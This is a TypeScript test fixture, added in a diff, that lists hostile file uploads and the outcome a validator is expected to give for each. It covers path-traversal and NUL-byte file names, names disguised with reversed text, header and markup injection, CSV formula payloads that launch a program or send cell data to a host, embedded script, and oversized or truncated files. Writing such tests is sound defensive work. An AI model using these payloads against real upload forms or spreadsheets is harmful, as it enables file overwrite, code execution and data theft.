@@ -1,0 +1,133 @@
+import { mostBytes } from '#contract/files.ts'
+import { pdf, pdfOf, picture, pictureOf, workbook, zipOf } from '../uploads.ts'
+import { canary, file, type HostileKind, type Outcome } from './kind.ts'
+
+const named = (what: string, name: string, outcome: Outcome = 'pdf') =>
+  file(`a name ${what}`, name, outcome, () => pdf, { type: 'application/pdf' })
+const unknown = 'files.type-not-accepted'
+
+/** Names that would lead elsewhere, say something else than they are, or break what they are written into. */
+const names: readonly HostileKind[] = [
+  named('with folders above', '../../../etc/cron.d/evil.pdf'),
+  named('with folders of Windows', '..\\..\\Windows\\evil.pdf'),
+  named('with an absolute path', '/etc/evil.pdf'),
+  named('on a share', '\\\\127.0.0.1\\x\\evil.pdf'),
+  named('with dots written in percent', '%2e%2e%2fevil.pdf'),
+  named('of nothing but its ending', '.pdf', 'pdf'),
+  named('of dots', '....pdf'),
+  named('that is hidden', '.htaccess.pdf'),
+  named('with a NUL written in percent', 'a.php%00.pdf'),
+  named('with a NUL', 'a.exe\0.pdf', 'pdf'),
+  named('with a NUL behind its ending', 'a.pdf\0.exe', unknown),
+  named('that reads backwards', 'invoice\u202efdp.exe', unknown),
+  named('that reads backwards and is what it says', 'invoice\u202eexe.pdf'),
+  named('with invisible letters', 'a\u200b\u200e\u2066b.pdf'),
+  named('with line breaks written in percent', 'a%0d%0aSet-Cookie: x=1.pdf'),
+  named('with quotes written in percent', 'a%22; filename=%22b.exe.pdf'),
+  named('with a semicolon and another name', 'a.pdf; filename=b.exe', unknown),
+  named('with markup', '<img src=x onerror=alert(1)>.pdf'),
+  named('that is a formula', '=cmd|calc!A0.pdf'),
+  named('of 1,000 letters', `${'a'.repeat(1_000)}.pdf`),
+  named('of 1,000 pictures of a face', `${'😀'.repeat(1_000)}.pdf`),
+  named('with half a letter', 'a\ud800.pdf'),
+  named('with two endings', 'invoice.pdf.exe', unknown),
+  named('with two endings, the first of a program', 'invoice.exe.pdf'),
+  named('with a dot behind', 'invoice.pdf.', unknown),
+  named('with a blank behind', 'invoice.pdf '),
+  named('with a second stream of Windows', 'invoice.pdf::$DATA', unknown),
+  named('in capitals', 'INVOICE.PDF'),
+  named('with an ending in other letters', 'invoice.рdf', unknown),
+  named('in full-width letters', 'invoice．ｐｄｆ', unknown),
+  named('that Windows keeps for a device', 'CON.pdf'),
+  named('that Windows keeps for a port', 'com1.pdf'),
+  named('without an ending', 'invoice', unknown),
+  named('of a page', 'invoice.html', unknown),
+  named('of a picture that is a page', 'a.svg', unknown),
+  named('of a workbook with macros', 'book.xlsm', unknown),
+  named('of a binary workbook', 'book.xlsb', unknown),
+  named('of an add-in', 'book.xla', unknown),
+  named('of an archive', 'a.zip', unknown),
+  named('of an object', 'constructor', unknown),
+  named('of a prototype', '__proto__.pdf'),
+]
+
+const declared = (type: string, outcome: Outcome) =>
+  file(`a PDF declared as ${type.slice(0, 40) || 'nothing'}`, 'a.pdf', outcome, () => pdf, { type })
+const differs = 'files.type-differs'
+
+const types: readonly HostileKind[] = [
+  declared('text/html', differs),
+  declared('image/svg+xml', differs),
+  declared('image/png', differs),
+  declared('text/plain', differs),
+  declared('application/javascript', differs),
+  declared('application/zip', differs),
+  declared('multipart/form-data', differs),
+  declared('application/pdf; charset=utf-8', 'pdf'),
+  declared('APPLICATION/PDF', 'pdf'),
+  declared('application/pdf, text/html', differs),
+  declared('*/*', differs),
+  declared('x', differs),
+  declared(`application/${'x'.repeat(2_000)}`, differs),
+  declared('application/octet-stream', 'pdf'),
+]
+
+const csv = (name: string, outcome: Outcome, make: () => Buffer | string) =>
+  file(name, 'list.csv', outcome, make, { type: 'text/csv' })
+
+const tables: readonly HostileKind[] = [
+  csv('a table with a NUL', differs, () => 'a,b\n1,\0\n'),
+  csv('a table with a NUL near its end', differs, () => `${'a,b\n'.repeat(50_000)}\0`),
+  csv('a table with commands to a terminal', differs, () => 'a,\u001b[2J\u001b]0;x\u0007\n'),
+  csv('a table in UTF-16, the other way round', differs, () =>
+    Buffer.from('\ufeffa,b\n', 'utf16le').swap16(),
+  ),
+  csv('a table with formulas', 'download', () => "=cmd|' /C calc'!A0,+1,-1,@SUM(1)\n"),
+  csv('a table that asks for a page elsewhere', 'download', () => '=WEBSERVICE("http://127.0.0.1:9/"&A1)\n'),
+  csv(
+    'a table with a web page far down',
+    'download',
+    () => `${'a,b\n'.repeat(5_000)}<html><script>alert(1)</script>`,
+  ),
+  csv('a table with a web page in its first cell', differs, () => 'a,<script>alert(1)</script>\n'),
+  csv('a table of one line of 4 MB', 'download', () => 'a'.repeat(4_000_000)),
+  csv('a table of 2 million lines', 'download', () => ','.repeat(2_000_000).replaceAll(',', ',\n')),
+  csv('a table of quotes that never close', 'download', () => `"${'a,'.repeat(10_000)}`),
+  csv('a table in letters of no encoding', 'download', () =>
+    Buffer.from([0xff, 0xfe, 0xfd, 0x2c, 0xc3, 0x28, 0x0a]),
+  ),
+]
+
+const sizes: readonly HostileKind[] = [
+  file('no bytes at all, as a picture', 'a.png', 'files.empty', () => ''),
+  file('no bytes at all, as a table', 'a.csv', 'files.empty', () => ''),
+  file('no bytes at all, as a workbook', 'a.xlsx', 'files.empty', () => ''),
+  file('one byte', 'a.pdf', differs, () => '%'),
+  file('5 MB', 'a.pdf', 'pdf', () => pdfOf(mostBytes)),
+  file('5 MB and one byte, as a PDF', 'a.pdf', 'files.too-large', () => pdfOf(mostBytes + 1)),
+  file('5 MB and one byte, as a picture', 'a.jpg', 'files.too-large', () => pictureOf(mostBytes + 1)),
+  file('5 MB and one byte, as a table', 'a.csv', 'files.too-large', () => Buffer.alloc(mostBytes + 1, 'a')),
+  file('5 MB and 50 KB', 'a.pdf', 'files.too-large', () => pdfOf(mostBytes + 50_000)),
+  file('20 MB', 'a.pdf', 'files.too-large', () => pdfOf(20_000_000)),
+]
+
+const whole = {
+  'a.jpg': () => picture('jpeg'),
+  'a.png': () => picture('png'),
+  'a.pdf': () => pdf,
+  'a.xls': () => workbook('xls'),
+  'a.xlsx': () => workbook('xlsx'),
+  'b.xlsx': () => zipOf({ '[Content_Types].xml': canary }),
+}
+
+/** What is left of a file that was cut off after each tenth of it. A part of a picture or an archive is none. */
+const truncated: readonly HostileKind[] = Object.entries(whole).flatMap(([name, make]) =>
+  Array.from({ length: 9 }, (_, at) =>
+    file(`${at + 1} tenths of ${name}`, name, [differs, 'files.broken-picture'], async () => {
+      const bytes = await make()
+      return bytes.subarray(0, Math.floor((bytes.length * (at + 1)) / 10))
+    }),
+  ),
+)
+
+export const wrongFiles: readonly HostileKind[] = [...names, ...types, ...tables, ...sizes, ...truncated]
